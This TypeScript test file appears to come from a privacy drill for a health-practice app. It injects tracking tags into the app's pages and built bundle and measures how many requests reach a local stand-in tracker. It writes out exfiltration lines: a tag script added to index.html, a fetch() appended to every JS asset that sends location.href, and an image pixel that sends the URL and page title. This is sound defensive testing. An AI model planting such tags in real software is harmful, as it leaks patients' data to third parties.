/**
 * Drill R14, "tracker" (BetterHelp, Cerebral, Kaiser): a real browser whose every foreign host leads into a trap. The app is used; then a
 * tag runs in its page and tries every way out; then a tag stands in the built app itself.
 */
import { cp, readdir, readFile, writeFile } from "node:fs/promises"
import { join } from "node:path"
import {
  buildWeb,
  checkBuilt,
  dataLayout,
  type ForeignAddress,
  type RunningServer,
  readConfig,
  repositoryRoot,
  startServer,
  subrosaModules,
} from "@subrosa/server"
import { showChart } from "../browser/person.ts"
import { openProfile } from "../browser/profile.ts"
import { browserStage } from "../browser/stage.ts"
import type { DrillOptions } from "../drill.ts"
import { type Ground, onGround } from "../ground.ts"
import { startPlainApp } from "../plain/app.ts"
import type { Population } from "../population/population.ts"
import { readerOf } from "../thief/reader.ts"
import { type Caught, isBrowsersOwn, openSink, type Sink } from "./sink.ts"
import { inject, tracker, unblockable, ways } from "./tags.ts"

export interface R14Figures {
  seed: number
  pages: number
  /** Foreign hosts that pages of the app asked for, and the browser's own. */
  used: { foreign: string[]; browsersOwn: number }
  /** By way: requests that reached the tracker from a chart's page. */
  injected: Record<string, number>
  unblockable: Record<string, number>
  /** A tag in the built index.html and bundle, served by the server as it is. */
  shipped: { requests: number }
  /** What the check of a build says of that app, and of the one that ships. */
  gate: { withTag: ForeignAddress[]; asBuilt: ForeignAddress[] }
  baseline: { requests: number; identifiers: number; ways: Record<string, number> }
  seconds: number
}

export const measureR14 = (options: DrillOptions): Promise<R14Figures> =>
  onGround(options, async (ground) => {
    const sink = await openSink()
    ground.onEnd(() => sink.close())
    const stage = await browserStage(ground, { patients: 3, caseload: 2, args: () => sink.args })
    const { page, context } = stage.person
    ground.step("the app is used")
    const visited = ["/", "/import", "/practice/people", "/practice/log", "/account", "/patients/new"]
    const asked: string[] = []
    context.on("request", (request) => {
      const { protocol, origin } = new URL(request.url())
      if (/^(https?|wss?):$/.test(protocol) && origin !== stage.instance.url)
        asked.push(new URL(request.url()).hostname)
    })
    for (const path of visited) {
      await page.evaluate((to) => {
        history.pushState(null, "", to)
        dispatchEvent(new PopStateEvent("popstate"))
      }, path)
      await page.waitForTimeout(300)
    }
    for (const chart of stage.caseload) await showChart(page, chart)
    const pageHosts = sink.caught.filter((one) => !isBrowsersOwn(one)).map(({ host }) => host)
    const used = {
      foreign: [...new Set([...pageHosts, ...asked])],
      browsersOwn: sink.caught.filter(isBrowsersOwn).length,
    }
    ground.step("a tag runs in a chart's page")
    const injected = await tryWays(page, sink, ways)
    const unblocked = await tryWays(page, sink, unblockable)
    await context.close()

    ground.step("a tag stands in the built app")
    const shipped = await shippedTag(ground, sink)
    ground.step("the same tag in an ordinary application")
    const baseline = await plainTag(ground, sink, stage.population)
    return {
      seed: ground.seed,
      pages: visited.length + stage.caseload.length,
      used,
      injected,
      unblockable: unblocked,
      ...shipped,
      baseline,
      seconds: ground.seconds(),
    }
  })

type Page = Parameters<typeof inject>[0]

async function tryWays(
  page: Page,
  sink: Sink,
  scripts: Readonly<Record<string, string>>,
): Promise<Record<string, number>> {
  const found: Record<string, number> = {}
  for (const [way, script] of Object.entries(scripts)) {
    const before = reached(sink)
    await inject(page, script.replace("SINK", String(sink.port)))
    found[way] = reached(sink) - before
  }
  return found
}

const reached = ({ caught }: Sink): number =>
  caught.filter(
    (one) => one.host === tracker || one.host === "(by UDP)" || (one.host === "(unnamed)" && !isBrowsersOwn(one)),
  ).length

/** The app as it would be if marketing had put a tag in and the build had let it through. */
async function shippedTag(ground: Ground, sink: Sink): Promise<Pick<R14Figures, "shipped" | "gate">> {
  const { dir } = await buildWeb({ fallbackDir: dataLayout(join(ground.root, "built")).web })
  const asBuilt = await checkBuilt(dir, repositoryRoot)
  const tagged = join(ground.root, "tagged")
  await cp(dir, tagged, { recursive: true, filter: (from) => !/\.(br|gz|zst)$/.test(from) })
  const index = join(tagged, "index.html")
  const html = await readFile(index, "utf8")
  await writeFile(index, html.replace("</head>", `<script async src="https://${tracker}/tag.js"></script></head>`))
  for (const name of await readdir(join(tagged, "assets"))) {
    if (!name.endsWith(".js")) continue
    const file = join(tagged, "assets", name)
    await writeFile(
      file,
      `${await readFile(file, "utf8")}\n;try{fetch("https://${tracker}/c?"+encodeURIComponent(location.href),{mode:"no-cors"}).catch(()=>{})}catch{}`,
    )
  }
  const data = join(ground.root, "tagged-data")
  const server: RunningServer = await startServer(readConfig({ data, port: 0 }), {
    modules: subrosaModules({}),
    web: tagged,
  })
  const context = await openProfile(join(ground.root, "tagged-profile"), sink.args)
  try {
    const before = reached(sink)
    const page = context.pages()[0] ?? (await context.newPage())
    await page.goto(server.setupLink ?? server.url)
    await page.getByLabel("Name of the practice").waitFor()
    await page.waitForTimeout(1500)
    return {
      shipped: { requests: reached(sink) - before },
      gate: { withTag: await checkBuilt(tagged, repositoryRoot), asBuilt },
    }
  } finally {
    await context.close()
    await server.close()
  }
}

async function plainTag(ground: Ground, sink: Sink, population: Population): Promise<R14Figures["baseline"]> {
  const tag = `<script>new Image().src = "http://${tracker}/pixel?u=" + encodeURIComponent(location.href + " " + document.title)</script>`
  const app = await startPlainApp({ dir: join(ground.root, "plain"), people: population.people, tag })
  const context = await openProfile(join(ground.root, "plain-profile"), sink.args)
  try {
    const page = context.pages()[0] ?? (await context.newPage())
    const [owner] = app.staff
    await page.goto(`${app.url}/login`)
    await page.evaluate(
      (body) =>
        fetch("/login", { method: "POST", headers: { "content-type": "application/json" }, body }).then((answer) =>
          answer.text(),
        ),
      JSON.stringify({ login: owner?.login, password: owner?.password }),
    )
    const before = sink.caught.length
    for (const id of app.patientIds) await page.goto(`${app.url}/pages/${id}`)
    await page.waitForTimeout(500)
    const sent: Caught[] = sink.caught.slice(before).filter(({ host }) => host === tracker)
    const { identified } = readerOf(population).readBytes(
      sent.map(({ text }) => Buffer.from(decodeURIComponent(text.replace(/%(?![0-9A-Fa-f]{2})/g, "%25")))),
    )
    return { requests: sent.length, identifiers: identified, ways: await tryWays(page, sink, ways) }
  } finally {
    await context.close()
    await app.close()
  }
}
